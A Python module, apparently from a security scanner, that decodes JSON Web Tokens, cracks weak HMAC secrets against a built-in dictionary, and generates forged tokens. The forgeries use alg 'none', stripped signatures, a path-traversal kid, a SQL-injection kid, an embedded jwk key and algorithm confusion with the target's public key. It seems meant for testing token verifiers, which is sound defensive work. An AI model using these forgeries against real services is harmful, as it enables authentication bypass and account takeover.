"""JSON Web Tokens: taken apart, and put together by somebody who has no key (RFC 7515, 7519)."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence

Fields = dict[str, Any]
HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
DICTIONARY = (
    *("secret", "password", "changeme", "jwt", "jwt_secret", "jwtsecret", "key", "private"),
    *("your-256-bit-secret", "your_jwt_secret", "supersecret", "super-secret", "secretkey"),
    *("secret_key", "secret-key", "my_secret", "mysecret", "admin", "test", "dev", "development"),
    *("default", "123456", "12345678", "qwerty", "token", "hmac", "s3cr3t", "topsecret", "cmdb"),
    *("netbox", "nautobot", "django-insecure", "flask", "fastapi", "secret123", "change-me", ""),
)
FILES = ("/dev/null", "../../../../../../../../dev/null")
OURS = b"cmdbguard-signed-this"


def taken_apart(token: str) -> tuple[Fields, Fields] | None:
    """Header and claims; None for what is no JWT."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header, claims = (json.loads(decoded(part)) for part in parts[:2])
    except ValueError:
        return None
    is_jwt = isinstance(header, dict) and isinstance(claims, dict) and "alg" in header
    return (header, claims) if is_jwt else None


def remaining_s(claims: Fields) -> float | None:
    """Seconds until it expires; None where it never does."""
    ends = claims.get("exp")
    return float(ends) - time.time() if isinstance(ends, int | float) else None


def signed(header: Fields, claims: Fields, key: bytes) -> str:
    """A token with an HMAC of ``key``, by the algorithm that the header names."""
    name = HASHES[header["alg"]]
    return signed_text(header, claims, lambda text: hmac.digest(key, text, name))


def signed_text(header: Fields, claims: Fields, sign: Callable[[bytes], bytes]) -> str:
    """A token with whatever signature ``sign`` makes of it."""
    message = f"{_text(header)}.{_text(claims)}"
    return f"{message}.{encoded(sign(message.encode()))}"


def weak_secret(token: str) -> str | None:
    """The secret, if it is one of those that everybody tries; nothing is sent for this."""
    taken = taken_apart(token)
    if taken is None or taken[0]["alg"] not in HASHES:
        return None
    message, _, signature = token.rpartition(".")
    name = HASHES[taken[0]["alg"]]
    for word in DICTIONARY:
        if encoded(hmac.digest(word.encode(), message.encode(), name)) == signature:
            return word
    return None


def forgeries(token: str, public_keys: Sequence[bytes] = ()) -> Iterator[tuple[str, str]]:
    """What a sound verifier refuses, by name. ``public_keys`` are PEM texts of the target's."""
    taken = taken_apart(token)
    if taken is None:
        return
    header, claims = taken
    signature = token.rpartition(".")[2]
    other = claims | {"cmdbguard": "forged"}
    for spelling in ("none", "None", "NONE"):
        yield f"alg {spelling}", f"{_text(header | {'alg': spelling})}.{_text(other)}."
    yield "signature left out", f"{_text(header)}.{_text(other)}."
    yield "signature of other claims", f"{_text(header)}.{_text(other)}.{signature}"
    hs256 = {**header, "alg": "HS256"}
    for file in FILES:
        yield f"kid is the path {file}", signed(hs256 | {"kid": file}, other, b"")
    injected = hs256 | {"kid": f"x' union select '{OURS.decode()}"}
    yield "kid is SQL", signed(injected, other, OURS)
    yield "key in the header (jwk)", signed(hs256 | {"jwk": OCTETS}, other, OURS)
    for key in public_keys:
        yield "HMAC with the public key", signed(hs256, other, key)
    if (word := weak_secret(token)) is not None:
        yield f"signed with the secret {word!r}", signed(header, other, word.encode())
        expired = other | {"exp": int(time.time()) - 3600}
        yield "expired an hour ago", signed(header, expired, word.encode())


def _text(fields: Fields) -> str:
    return encoded(json.dumps(fields, separators=(",", ":")).encode())


def encoded(raw: bytes) -> str:
    """base64url without padding, as the parts of a token are."""
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def decoded(part: str) -> bytes:
    """The bytes of a part (base64url without padding). Raises: ValueError."""
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


OCTETS = {"kty": "oct", "alg": "HS256", "k": encoded(OURS)}  # our key as a JWK
